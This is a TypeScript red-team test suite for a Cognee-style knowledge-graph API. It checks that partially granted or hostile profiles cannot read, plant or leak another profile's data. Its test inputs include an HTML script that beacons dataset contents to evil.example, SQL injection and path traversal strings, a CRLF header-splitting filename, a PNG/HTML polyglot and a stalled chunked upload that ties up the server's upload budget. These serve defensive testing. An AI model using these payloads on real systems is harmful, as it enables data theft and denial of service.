/**
 * Red team, round 19b: Cognee's newer endpoints (remember, recall, search history, memify/improve,
 * sessions, graph-summary, activity, configuration, raw downloads, schema inventory, ontologies)
 * attacked by a hostile second profile and by profiles with partial grants (read only, write only,
 * a revoked grant, a tenant role). A test named `held:` passes because the defence held; one named
 * `fixed:` was an attack that worked and is now refused. One that worked is not fixed and so not
 * here: a signed-in profile holding the whole upload budget with an idle chunked upload
 * (SECURITY.md, Known limits).
 */
import http from 'node:http';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { rpc } from '../../helpers/http-core';
import { chatReply, startFakeOpenAiServer } from '../../unit/ingest/llm/fake-openai-server';
import type { FakeOpenAiServer } from '../../unit/ingest/llm/fake-openai-server';
import { addForm, openHost, UNKNOWN_ID } from './harness';
import type { Harness } from './harness';

const SECRET = 'Quillon Vantablack signed the Zerkova merger in Reykjavik in 2031.';
const OWNER_QUERY = 'zerkova merger private question of the owner';
const OWL = '<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:owl="http://www.w3.org/2002/07/owl#"><owl:Class rdf:about="#Person"/></rdf:RDF>';
const HTML = '<!doctype html><p>Quarterly page of the owner.</p><script>fetch("/api/v1/datasets").then(r=>r.text()).then(t=>navigator.sendBeacon("http://evil.example/",t))</script>';
const PNG_SIG = '\x89PNG\r\n\x1a\n';

type U = { token: string; id: string };

function ontologyForm(key: string, filename = 'o.owl', content = OWL, description?: string): FormData {
  const form = new FormData();
  form.append('ontology_key', key);
  if (description !== undefined) form.append('description', description);
  form.append('ontology_file', new Blob([content]), filename);
  return form;
}

/** A multipart body whose file is given as bytes (a polyglot keeps its binary signature). */
function binaryForm(fields: Record<string, string>, name: string, bytes: Uint8Array<ArrayBuffer>): FormData {
  const form = new FormData();
  for (const [k, v] of Object.entries(fields)) form.append(k, v);
  form.append('data', new Blob([bytes]), name);
  return form;
}

describe('red team 19b: the new Cognee endpoints against hostile and partially granted profiles', () => {
  let h: Harness;
  let owner: U;
  let stranger: U;
  let reader: U;
  let writer: U;
  let revoked: U;
  let member: U;
  let ds: string;
  let textId: string;
  let htmlId: string;
  let pngId: string;
  let strangerDs: string;
  let llm: FakeOpenAiServer;

  const body = async (r: Response) => [r.status, await r.text()] as const;
  const grant = (who: U, permissions: string[]) => rpc(h.url, owner.token, 'sharing.grant', { datasetId: ds, principalId: who.id, permissions });

  beforeAll(async () => {
    h = await openHost({}, { signInPerMinute: 1000 });
    llm = await startFakeOpenAiServer();
    llm.reply = () => ({ json: { choices: [{ message: { role: 'assistant', content: '{}' } }] } });
    [owner, stranger, reader, writer, revoked, member] = [
      await h.user('owner@example.com'),
      await h.user('stranger@example.com'),
      await h.user('reader@example.com'),
      await h.user('writer@example.com'),
      await h.user('revoked@example.com'),
      await h.user('member@example.com'),
    ];
    const r = await h.post('/api/v1/remember', addForm({ datasetName: 'secret' }, [{ name: 'deal.txt', text: SECRET }, { name: 'page.html', text: HTML }]), owner.token);
    expect(r.status).toBe(200);
    ds = ((await r.json()) as { dataset_id: string }).dataset_id;
    const png = new Uint8Array(Buffer.from(`${PNG_SIG}${HTML}`, 'latin1'));
    const added = await h.post('/api/v1/add', binaryForm({ datasetId: ds }, 'pic.png', png), owner.token);
    expect(added.status).toBe(200);
    const items = (await (await h.get(`/api/v1/datasets/${ds}/data`, owner.token)).json()) as { id: string; name: string }[];
    textId = items.find((i) => i.name.startsWith('deal'))!.id;
    htmlId = items.find((i) => i.name.startsWith('page'))!.id;
    pngId = items.find((i) => i.name.startsWith('pic'))!.id;
    // The owner's own search history and configuration.
    expect((await h.post('/api/v1/search', { query: OWNER_QUERY, search_type: 'CHUNKS', dataset_ids: [ds] }, owner.token)).status).toBe(200);
    expect((await h.post('/api/v1/configuration/store_user_configuration', { name: 'shared-name', config: { graph_model: 'owner-private-model' } }, owner.token)).status).toBe(200);
    expect((await h.post('/api/v1/ontologies', ontologyForm('owner-only'), owner.token)).status).toBe(200);
    expect((await h.post('/api/v1/ontologies', ontologyForm('same-key', 'owners.owl'), owner.token)).status).toBe(200);
    // Grants: read only, write only, a read grant revoked, a tenant role with read.
    expect((await grant(reader, ['read'])).ok).toBe(true);
    expect((await grant(writer, ['write'])).ok).toBe(true);
    expect((await grant(revoked, ['read'])).ok).toBe(true);
    expect((await h.post('/api/v1/search', { query: 'revoked reader asks about zerkova', search_type: 'CHUNKS', dataset_ids: [ds] }, revoked.token)).status).toBe(200);
    expect((await rpc(h.url, owner.token, 'sharing.revoke', { datasetId: ds, principalId: revoked.id, permissions: ['read'] })).ok).toBe(true);
    const tenant = await (await h.post('/api/v1/permissions/tenants?tenant_name=Lab', '', owner.token)).json();
    const role = await (await h.post('/api/v1/permissions/roles?role_name=readers', '', owner.token)).json();
    const invited = await (await h.post(`/api/v1/permissions/users/${member.id}/tenants?tenant_id=${tenant.tenant_id}`, '', owner.token)).json();
    await h.post(`/api/v1/permissions/tenants/invitations/${invited.invitation_id}/accept`, '', member.token);
    expect((await h.post(`/api/v1/permissions/users/${member.id}/roles?role_id=${role.role_id}`, '', owner.token)).status).toBe(200);
    expect((await h.post(`/api/v1/permissions/datasets/${role.role_id}?permission_name=read`, [ds], owner.token)).status).toBe(200);
    // The stranger has a dataset of its own.
    const s = await h.post('/api/v1/remember', addForm({ datasetName: 'mine' }, [{ name: 'own.txt', text: 'The stranger keeps notes about gardening.' }]), stranger.token);
    strangerDs = ((await s.json()) as { dataset_id: string }).dataset_id;
  }, 180_000);
  afterAll(async () => {
    await h?.close();
    await llm?.close();
  });

  it('held: search history (GET /search, GET /recall) never shows another profile’s queries or answers', async () => {
    for (const u of [stranger, reader, writer, revoked, member]) {
      for (const p of ['/api/v1/search', '/api/v1/recall']) {
        const text = await (await h.get(p, u.token)).text();
        expect([p, text.includes(OWNER_QUERY), text.includes('Quillon')]).toEqual([p, false, u === revoked]);
      }
    }
    const own = await (await h.get('/api/v1/search', owner.token)).text();
    expect(own).toContain(OWNER_QUERY);
    expect(own).not.toContain('revoked reader asks');
    // A refused search is not recorded (the dispatcher denies before the handler).
    expect((await h.post('/api/v1/search', { query: 'stranger probes zerkova', search_type: 'CHUNKS', dataset_ids: [ds] }, stranger.token)).status).toBe(403);
    expect(await (await h.get('/api/v1/search', stranger.token)).text()).not.toContain('stranger probes');
  });

  it('note (acceptable per Cognee): a revoked reader’s history keeps the digest of what it read while the grant stood', async () => {
    const text = await (await h.get('/api/v1/search', revoked.token)).text();
    expect(text).toContain('Quillon Vantablack');
  });

  it('held: activity lists no runs of a dataset the caller cannot read, and a foreign id is refused like an unknown one', async () => {
    const unknown = await body(await h.get(`/api/v1/activity/pipeline-runs?dataset_id=${UNKNOWN_ID}`, stranger.token));
    for (const u of [stranger, writer, revoked]) {
      const all = (await (await h.get('/api/v1/activity/pipeline-runs', u.token)).json()) as { dataset_id: string }[];
      expect(all.some((r) => r.dataset_id === ds)).toBe(false);
      const foreign = await body(await h.get(`/api/v1/activity/pipeline-runs?dataset_id=${ds}`, u.token));
      expect(foreign).toEqual(unknown);
      expect(unknown[0]).toBe(403);
    }
    for (const u of [reader, member]) {
      const all = (await (await h.get(`/api/v1/activity/pipeline-runs?dataset_id=${ds}`, u.token)).json()) as { dataset_id: string }[];
      expect(all.length).toBeGreaterThan(0);
    }
  });

  it('held: sessions are empty for everyone and need a session', async () => {
    for (const u of [stranger, reader]) {
      expect(await (await h.get('/api/v1/sessions', u.token)).json()).toMatchObject({ sessions: [], total: 0 });
      expect((await h.get(`/api/v1/sessions/${UNKNOWN_ID}`, u.token)).status).toBe(404);
    }
    expect((await h.get('/api/v1/sessions')).status).toBe(401);
    expect((await h.get('/api/v1/sessions/stats')).status).toBe(401);
  });

  it('held: configurations are per profile — list, by id, and a same-named store never touch the owner’s', async () => {
    const ownerList = (await (await h.get('/api/v1/configuration/get_user_configuration', owner.token)).json()) as { id: string; name: string }[];
    const ownerCfg = ownerList.find((c) => c.name === 'shared-name')!;
    for (const u of [stranger, reader, member]) {
      expect(await (await h.get('/api/v1/configuration/get_user_configuration', u.token)).json()).toEqual([]);
      expect(await (await h.get(`/api/v1/configuration/get_user_configuration/${ownerCfg.id}`, u.token)).json()).toEqual({});
    }
    expect((await h.post('/api/v1/configuration/store_user_configuration', { name: 'shared-name', config: { graph_model: 'hijacked' } }, stranger.token)).status).toBe(200);
    expect(await (await h.get(`/api/v1/configuration/get_user_configuration/${ownerCfg.id}`, owner.token)).json()).toEqual({ graph_model: 'owner-private-model' });
    // SQL in a name or a value is stored literally.
    const evil = `x'); DELETE FROM user_configurations; --`;
    expect((await h.post('/api/v1/configuration/store_user_configuration', { name: evil, config: { q: `' OR 1=1 --` } }, stranger.token)).status).toBe(200);
    const mine = (await (await h.get('/api/v1/configuration/get_user_configuration', stranger.token)).json()) as { name: string; configuration: unknown }[];
    expect(mine.find((c) => c.name === evil)?.configuration).toEqual({ q: `' OR 1=1 --` });
    expect(((await (await h.get('/api/v1/configuration/get_user_configuration', owner.token)).json()) as unknown[]).length).toBe(1);
    expect((await h.get('/api/v1/configuration/get_user_configuration')).status).toBe(401);
  });

  it('held: a grantee that points its own LLM at an attacker’s endpoint (configuration API) gets none of the owner’s text through cognify, memify, improve or remember', async () => {
    for (const u of [writer, reader]) {
      const set = await h.post('/api/v1/configuration/store_user_configuration', { name: 'llm', config: { llm_provider: 'custom', llm_endpoint: `${llm.origin}/v1`, llm_model: 'evil', llm_api_key: 'k' } }, u.token);
      expect(set.status).toBe(200);
    }
    // The stored configuration never keeps the key.
    expect(await (await h.get('/api/v1/configuration/get_user_configuration', writer.token)).text()).not.toContain('"k"');
    // write only: may add and cognify — with the owner's settings (no LLM), never the writer's.
    const rem = await h.post('/api/v1/remember', addForm({ datasetId: ds }, [{ name: 'w.txt', text: 'The writer adds a line about Zerkova.' }]), writer.token);
    expect(rem.status).toBe(200);
    const memify = await body(await h.post('/api/v1/memify', { dataset_id: ds }, writer.token));
    expect(memify[0], memify[1]).toBe(200);
    expect((await h.post('/api/v1/improve', { dataset_id: ds, run_in_background: false }, writer.token)).status).toBe(200);
    expect((await h.post('/api/v1/cognify', { dataset_ids: [ds], run_in_background: false }, writer.token)).status).toBe(200);
    // read only: memify/improve/remember are writes.
    expect((await h.post('/api/v1/memify', { dataset_id: ds }, reader.token)).status).toBe(403);
    expect((await h.post('/api/v1/improve', { dataset_id: ds }, reader.token)).status).toBe(403);
    expect((await h.post('/api/v1/remember', addForm({ datasetId: ds }, [{ name: 'r.txt', text: 'reader plants' }]), reader.token)).status).toBe(403);
    expect(JSON.stringify(llm.requests)).not.toContain('Quillon');
    expect(llm.requests.length).toBe(0);
    // The reader's completion search sends the context to the reader's LLM: text the reader may read anyway.
  });

  it('held: ontologies are per profile — list, delete and ontology_key in cognify/remember see only the caller’s', async () => {
    expect((await h.post('/api/v1/ontologies', ontologyForm('same-key', 'strangers.owl'), stranger.token)).status).toBe(200);
    const list = (await (await h.get('/api/v1/ontologies', stranger.token)).json()) as Record<string, { filename: string }>;
    expect(Object.keys(list)).toEqual(['same-key']);
    expect(list['same-key']!.filename).toBe('strangers.owl');
    const del = await h.del('/api/v1/ontologies/owner-only', undefined, stranger.token);
    expect(await body(del)).toEqual([400, JSON.stringify({ error: 'Ontology key not found or invalid.' })]);
    expect((await h.del('/api/v1/ontologies/same-key', undefined, stranger.token)).status).toBe(200);
    const ownerList = (await (await h.get('/api/v1/ontologies', owner.token)).json()) as Record<string, { filename: string }>;
    expect(Object.keys(ownerList).sort()).toEqual(['owner-only', 'same-key']);
    expect(ownerList['same-key']!.filename).toBe('owners.owl');
    const cog = await h.post('/api/v1/cognify', { dataset_ids: [strangerDs], ontology_key: ['owner-only'] }, stranger.token);
    expect(cog.status).toBe(409);
    const rem = await h.post('/api/v1/remember', addForm({ datasetName: 'mine', ontology_key: 'owner-only' }, [{ name: 'x.txt', text: 'x y z' }]), stranger.token);
    expect(rem.status).toBe(409);
  });

  it('held: ontology keys and file names cannot traverse paths or inject SQL', async () => {
    for (const key of ['../x', '..', '.hidden', 'a/b', 'a\\b', '%2e%2e', `x' OR '1'='1`, 'x;DROP TABLE ontologies', '', ' ', 'a'.repeat(129), 'ünï']) {
      const r = await h.post('/api/v1/ontologies', ontologyForm(key), stranger.token);
      expect([key, r.status]).toEqual([key, 400]);
    }
    // (fetch resolves a %2e%2e segment itself: that one reaches no route, 404.)
    for (const path of ['..%2F..%2Fx', '%2e%2e', 'owner-only%00', `x'%20OR%20'1'='1`]) {
      expect([path, [400, 404].includes((await h.del(`/api/v1/ontologies/${path}`, undefined, stranger.token)).status)]).toEqual([path, true]);
    }
    const r = await h.post('/api/v1/ontologies', ontologyForm('trav', '../../../etc/evil.owl', OWL, `'); DELETE FROM ontologies; --`), stranger.token);
    expect(r.status).toBe(200);
    expect((await r.json()).uploaded_ontologies[0]).toMatchObject({ ontology_key: 'trav', filename: 'evil.owl', description: `'); DELETE FROM ontologies; --` });
    expect((await h.post('/api/v1/ontologies', ontologyForm('notowl', 'x.html', HTML), stranger.token)).status).toBe(400);
    // Malformed XML is only stored (Kenning does not parse ontologies yet).
    expect((await h.post('/api/v1/ontologies', ontologyForm('broken', 'b.owl', '<rdf:RDF <<<&&&'), stranger.token)).status).toBe(200);
    expect(Object.keys((await (await h.get('/api/v1/ontologies', owner.token)).json()) as object).sort()).toEqual(['owner-only', 'same-key']);
  });

  it('held: an ontology over 10 MB is refused', async () => {
    const big = await h.post('/api/v1/ontologies', ontologyForm('big', 'big.owl', 'x'.repeat(10 * 1024 * 1024 + 10)), stranger.token);
    expect(big.status).toBe(413);
  });

  it('held: graph-summary and schema inventory of a foreign, write-only or revoked dataset are refused like an unknown one', async () => {
    const unknownSummary = await body(await h.get(`/api/v1/datasets/graph-summary?dataset_ids=${UNKNOWN_ID}`, stranger.token));
    const unknownSchema = await body(await h.get(`/api/v1/schema/inventory?dataset_id=${UNKNOWN_ID}`, stranger.token));
    expect(unknownSummary[0]).toBe(403);
    expect(unknownSchema).toEqual([403, JSON.stringify({ error: 'Not authorized to read this dataset' })]);
    for (const u of [stranger, writer, revoked]) {
      expect(await body(await h.get(`/api/v1/datasets/graph-summary?dataset_ids=${ds}`, u.token))).toEqual(unknownSummary);
      expect(await body(await h.get(`/api/v1/datasets/graph-summary?dataset_ids=${strangerDs}&dataset_ids=${ds}`, u.token))).toEqual(unknownSummary);
      expect(await body(await h.get(`/api/v1/schema/inventory?dataset_id=${ds}`, u.token))).toEqual(unknownSchema);
      const all = await h.get('/api/v1/datasets/graph-summary', u.token);
      expect(all.status).toBe(200);
      expect(JSON.stringify(await all.json())).not.toContain(ds);
    }
    for (const u of [reader, member]) {
      expect((await h.get(`/api/v1/schema/inventory?dataset_id=${ds}`, u.token)).status).toBe(200);
      expect((await h.get(`/api/v1/datasets/graph-summary?dataset_ids=${ds}`, u.token)).status).toBe(200);
    }
  });

  it('held: /raw refuses a foreign dataset, and a foreign data id paired with the caller’s own dataset (IDOR)', async () => {
    const unknownDs = await body(await h.get(`/api/v1/datasets/${UNKNOWN_ID}/data/${textId}/raw`, stranger.token));
    expect(unknownDs[0]).toBe(403);
    for (const u of [stranger, writer, revoked]) {
      const r = await body(await h.get(`/api/v1/datasets/${ds}/data/${textId}/raw`, u.token));
      expect(r).toEqual(unknownDs);
    }
    const pair = await body(await h.get(`/api/v1/datasets/${strangerDs}/data/${textId}/raw`, stranger.token));
    expect(pair[0]).toBe(404);
    expect(pair[1]).not.toContain('Quillon');
    expect(pair[1]).not.toContain('deal');
    const unknownData = await body(await h.get(`/api/v1/datasets/${strangerDs}/data/${UNKNOWN_ID}/raw`, stranger.token));
    expect(pair[1].replace(textId, 'X')).toBe(unknownData[1].replace(UNKNOWN_ID, 'X'));
    // A reader may download; the owner's text is exactly what it uploaded.
    for (const u of [reader, member]) {
      const ok = await h.get(`/api/v1/datasets/${ds}/data/${textId}/raw`, u.token);
      expect([ok.status, await ok.text()]).toEqual([200, SECRET]);
    }
  });

  it('held: a raw HTML download and a PNG/HTML polyglot cannot run as a page of Kenning’s origin', async () => {
    const html = await h.get(`/api/v1/datasets/${ds}/data/${htmlId}/raw`, reader.token);
    expect(html.status).toBe(200);
    expect(html.headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(html.headers.get('x-content-type-options')).toBe('nosniff');
    expect(html.headers.get('content-security-policy')).toMatch(/\bsandbox\b/);
    const png = await h.get(`/api/v1/datasets/${ds}/data/${pngId}/raw`, reader.token);
    expect(png.status).toBe(200);
    expect(png.headers.get('content-type')).toBe('image/png');
    expect(png.headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(png.headers.get('x-content-type-options')).toBe('nosniff');
    expect(png.headers.get('content-security-policy')).toMatch(/\bsandbox\b/);
    // An SVG is not accepted at all.
    const svg = await h.post('/api/v1/add', addForm({ datasetId: ds }, [{ name: 'x.svg', text: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>' }]), owner.token);
    expect(JSON.stringify(await svg.json())).toMatch(/not supported|rejected/);
    // A .png that is not a PNG at all (HTML) is refused.
    const fake = await h.post('/api/v1/remember', addForm({ datasetId: ds }, [{ name: 'fake.png', text: HTML }]), owner.token);
    expect(fake.status).toBe(409);
  });

  it('held: a file name with quotes, CR/LF or a path cannot split or spoof the Content-Disposition header', async () => {
    const name = 'a"b\r\nSet-Cookie: x=1;..%2F..\\c.html';
    const form = addForm({ datasetName: 'mine' }, [{ name, text: HTML }]);
    const r = await h.post('/api/v1/add', form, stranger.token);
    expect(r.status).toBe(200);
    const items = (await (await h.get(`/api/v1/datasets/${strangerDs}/data`, stranger.token)).json()) as { id: string; name: string }[];
    const page = items.find((i) => i.name.endsWith('.html'));
    expect(page).toBeDefined();
    const raw = await h.get(`/api/v1/datasets/${strangerDs}/data/${page!.id}/raw`, stranger.token);
    expect(raw.status).toBe(200);
    expect(raw.headers.get('set-cookie')).toBeNull();
    expect(raw.headers.get('content-disposition')).toMatch(/^attachment; filename="[^"\r\n]*"; filename\*=UTF-8''/);
  });

  it('held: remember into a foreign, read-only or revoked dataset is refused like an unknown one, and adds nothing', async () => {
    const count = async () => ((await (await h.get(`/api/v1/datasets/${ds}/data`, owner.token)).json()) as unknown[]).length;
    const before = await count();
    const unknown = await body(await h.post('/api/v1/remember', addForm({ datasetId: UNKNOWN_ID }, [{ name: 'p.txt', text: 'planted' }]), stranger.token));
    expect(unknown[0]).toBe(403);
    for (const u of [stranger, reader, revoked, member]) {
      const r = await body(await h.post('/api/v1/remember', addForm({ datasetId: ds }, [{ name: 'p.txt', text: 'planted' }]), u.token));
      expect(r).toEqual(unknown);
    }
    expect(await count()).toBe(before);
    // By the owner's dataset name: the caller's own dataset of that name, never the owner's.
    const byName = await h.post('/api/v1/remember', addForm({ datasetName: 'secret' }, [{ name: 'p.txt', text: 'planted by name' }]), stranger.token);
    expect(byName.status).toBe(200);
    expect((await byName.json()).dataset_id).not.toBe(ds);
    expect(await count()).toBe(before);
  });

  it('held: memify/improve on a foreign, read-only or revoked dataset is refused like an unknown one', async () => {
    const unknownM = await body(await h.post('/api/v1/memify', { dataset_id: UNKNOWN_ID }, stranger.token));
    const unknownI = await body(await h.post('/api/v1/improve', { dataset_id: UNKNOWN_ID }, stranger.token));
    expect([unknownM[0], unknownI[0]]).toEqual([403, 403]);
    for (const u of [stranger, reader, revoked, member]) {
      expect(await body(await h.post('/api/v1/memify', { dataset_id: ds }, u.token))).toEqual(unknownM);
      expect(await body(await h.post('/api/v1/improve', { dataset_id: ds }, u.token))).toEqual(unknownI);
    }
    // By name, a foreign dataset's name is answered like any name the caller has no dataset of.
    // (revoked and member have no dataset of their own; the reader holds read on 'secret'.)
    for (const u of [reader, revoked, member]) {
      const unknownName = await body(await h.post('/api/v1/memify', { dataset_name: 'no-such-dataset-anywhere' }, u.token));
      expect(await body(await h.post('/api/v1/memify', { dataset_name: 'secret' }, u.token))).toEqual([unknownName[0], unknownName[1].replace('no-such-dataset-anywhere', 'secret')]);
      expect(unknownName[0]).toBeGreaterThanOrEqual(400);
    }
  });

  it('held: recall on a foreign, write-only or revoked dataset is refused and nothing of it is recorded', async () => {
    for (const u of [stranger, writer, revoked]) {
      const r = await h.post('/api/v1/recall', { query: 'zerkova recall probe', search_type: 'CHUNKS', dataset_ids: [ds] }, u.token);
      expect(r.status).toBe(403);
      const all = await h.post('/api/v1/recall', { query: 'Quillon Vantablack Zerkova', search_type: 'CHUNKS' }, u.token);
      expect(await all.text()).not.toContain('Quillon');
      expect(await (await h.get('/api/v1/recall', u.token)).text()).not.toContain('zerkova recall probe');
    }
  });

  it('held: a tenant role member loses raw, schema and history-visible reads when removed from the role', async () => {
    const roles = (await (await h.get('/api/v1/permissions/tenants/me', owner.token)).json()) as { id: string }[];
    expect(roles.length).toBe(1);
    expect((await h.get(`/api/v1/datasets/${ds}/data/${textId}/raw`, member.token)).status).toBe(200);
    const tenantId = roles[0]!.id;
    const left = await fetch(`${h.url}/api/v1/permissions/tenants/${tenantId}/users/${member.id}`, { method: 'DELETE', headers: { authorization: `Bearer ${owner.token}` } });
    expect(left.status).toBe(200);
    expect((await h.get(`/api/v1/datasets/${ds}/data/${textId}/raw`, member.token)).status).toBe(403);
    expect((await h.get(`/api/v1/schema/inventory?dataset_id=${ds}`, member.token)).status).toBe(403);
    expect((await h.get(`/api/v1/activity/pipeline-runs?dataset_id=${ds}`, member.token)).status).toBe(403);
  });

  it('fixed: a write-only grantee cannot confirm a guessed document in a dataset it cannot read; was: confirms a guessed document in a dataset it cannot read (the duplicate answer of /remember and /add)', async () => {
    // The writer cannot read the dataset (its /raw, search and data list are 403), yet uploading a guess
    // answers `duplicate` with the owner's data id when the guess is exactly in it, `added` when not.
    expect((await h.get(`/api/v1/datasets/${ds}/data`, writer.token)).status).toBe(403);
    const item = async (r: Response) => ((await r.json()) as { items: { status: string; data_id: string | null }[] }).items[0]!;
    const hit = await item(await h.post('/api/v1/remember', addForm({ datasetId: ds }, [{ name: 'guess.txt', text: SECRET }]), writer.token));
    const miss = await item(await h.post('/api/v1/remember', addForm({ datasetId: ds }, [{ name: 'guess2.txt', text: SECRET.replace('2031', '2032') }]), writer.token));
    const viaAdd = (await (await h.post('/api/v1/add', addForm({ datasetId: ds }, [{ name: 'guess3.txt', text: SECRET }]), writer.token)).json()) as unknown;
    expect(miss.status).toBe('added');
    expect(JSON.stringify(viaAdd)).not.toContain(textId);
    expect(hit.data_id).not.toBe(textId);
    expect(hit.status).toBe(miss.status);
  });

  it('fixed: ontologies per profile are capped; was: stored without any cap on their number (10 MB each, kept in the catalog database)', async () => {
    // 250 small ones here; at 10 MB each the same loop writes 2.5 GB into kenning's main SQLite database.
    let refused = 0;
    for (let i = 0; i < 250; i++) {
      const r = await h.post('/api/v1/ontologies', ontologyForm(`flood-${i}`), stranger.token);
      if (r.status !== 200) refused++;
    }
    expect(refused).toBeGreaterThan(0);
  }, 120_000);

  it('fixed: configurations per profile are capped; was: stored without any cap on their number (1 MB of JSON each)', async () => {
    let refused = 0;
    for (let i = 0; i < 250; i++) {
      const r = await h.post('/api/v1/configuration/store_user_configuration', { name: `flood-${i}`, config: { i } }, stranger.token);
      if (r.status !== 200) refused++;
    }
    expect(refused).toBeGreaterThan(0);
  }, 120_000);
});

/** A chunked multipart upload to `path` that sends its first part and then stalls (no Content-Length). */
function stalledUpload(port: number, path: string, fileField: string, token?: string) {
  const boundary = 'redteam19bboundary';
  const req = http.request({
    host: '127.0.0.1',
    port,
    method: 'POST',
    path,
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}`, 'transfer-encoding': 'chunked', ...(token ? { authorization: `Bearer ${token}` } : {}) },
  });
  let status = 0;
  req.on('response', (res) => {
    status = res.statusCode ?? 0;
    res.resume();
  });
  req.on('error', () => undefined);
  req.write(`--${boundary}\r\nContent-Disposition: form-data; name="datasetName"\r\n\r\nx\r\n--${boundary}\r\nContent-Disposition: form-data; name="ontology_key"\r\n\r\nk\r\n`);
  req.write(`--${boundary}\r\nContent-Disposition: form-data; name="${fileField}"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\n${'a'.repeat(1024)}`);
  return { status: () => status, destroy: () => req.destroy() };
}

describe('red team 19b: the shared upload budget against a caller without a session', () => {
  let h: Harness;
  let token: string;
  beforeAll(async () => {
    h = await openHost({}, { signInPerMinute: 1000 });
    token = (await h.user('victim@example.com')).token;
  });
  afterAll(async () => h?.close());

  const settle = () => new Promise((r) => setTimeout(r, 500));

  it('held: POST /api/v1/ontologies without a session is refused (401) before the body is read; no budget is held', async () => {
    const u = stalledUpload(h.port, '/api/v1/ontologies', 'ontology_file');
    await settle();
    expect([u.status(), h.uploadBytesInFlight()]).toEqual([401, 0]);
    u.destroy();
  });

  // A chunked body declares no length, so its lease takes the whole per-request cap (by default the
  // whole in-flight budget, 512 MB) before a byte arrives; one idle connection without any session
  // then makes every profile's upload a 413 ("the host is already receiving as many uploads…")
  // until the connection is dropped.
  for (const path of ['/api/v1/remember', '/api/v1/add']) {
    it(`fixed: POST ${path} without a session is refused before the body is read; was: read (and holds the upload budget for) the body before refusing it`, async () => {
      const u = stalledUpload(h.port, path, 'data');
      await settle();
      const held = h.uploadBytesInFlight();
      const victim = await h.post('/api/v1/add', addForm({ datasetName: 'mine' }, [{ name: 'v.txt', text: 'the victim uploads a note' }]), token);
      u.destroy();
      expect([held, victim.status, u.status()]).toEqual([0, 200, 401]);
    });
  }
});

describe('red team 19b: a write grantee and the owner’s paid LLM', () => {
  it('held: repeated memify/improve by a write-only grantee, with nothing new, sends nothing more to the owner’s LLM', async () => {
    const h = await openHost({}, { signInPerMinute: 1000 });
    const s = await startFakeOpenAiServer();
    try {
      s.reply = (req) => {
        const system = String(req.body?.messages?.[0]?.content ?? '');
        if (/knowledge graph/i.test(system)) {
          return chatReply(JSON.stringify({ nodes: [{ name: 'Quillon Works', type: 'Organization', description: 'A valve maker' }, { name: 'Tallinn', type: 'Location', description: 'A city' }], edges: [{ source: 'Quillon Works', target: 'Tallinn', relationship_name: 'located_in' }] }));
        }
        return chatReply('ok');
      };
      const o = await h.user('o@example.com');
      const w = await h.user('w@example.com');
      // The owner configures its LLM through Cognee's configuration API.
      const cfg = await h.post('/api/v1/configuration/store_user_configuration', { name: 'llm', config: { llm_provider: 'custom', llm_endpoint: `${s.origin}/v1`, llm_model: 'owner-model', llm_api_key: 'OWNER-KEY' } }, o.token);
      expect(cfg.status).toBe(200);
      const rem = await h.post('/api/v1/remember', addForm({ datasetName: 'secret' }, [{ name: 'a.txt', text: 'Quillon Works makes valves in Tallinn. It was founded in 1901.' }]), o.token);
      const ds = ((await rem.json()) as { dataset_id: string }).dataset_id;
      const spent = s.requests.length;
      expect(spent).toBeGreaterThan(0);
      expect(s.requests[0]!.headers.authorization).toBe('Bearer OWNER-KEY');
      expect((await rpc(h.url, o.token, 'sharing.grant', { datasetId: ds, principalId: w.id, permissions: ['write'] })).ok).toBe(true);
      for (let i = 0; i < 3; i++) {
        expect((await h.post('/api/v1/memify', { dataset_id: ds }, w.token)).status).toBe(200);
        expect((await h.post('/api/v1/improve', { dataset_id: ds, run_in_background: false }, w.token)).status).toBe(200);
      }
      expect(s.requests.length).toBe(spent);
      // The key is in the owner's settings only, never in the stored configuration.
      expect(await (await h.get('/api/v1/configuration/get_user_configuration', o.token)).text()).not.toContain('OWNER-KEY');
    } finally {
      await h.close();
      await s.close();
    }
  }, 120_000);
});
